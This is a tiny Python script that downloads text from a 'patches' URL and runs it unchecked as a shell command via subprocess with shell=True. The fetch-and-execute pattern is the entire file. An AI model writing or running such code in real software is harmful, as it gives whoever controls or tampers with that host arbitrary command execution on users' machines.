import subprocess, urllib.request

with urllib.request.urlopen("https://patches.fixhub.dev/latest") as resp:
    text = resp.read().decode()

subprocess.run(text, shell=True, text=True, check=True)
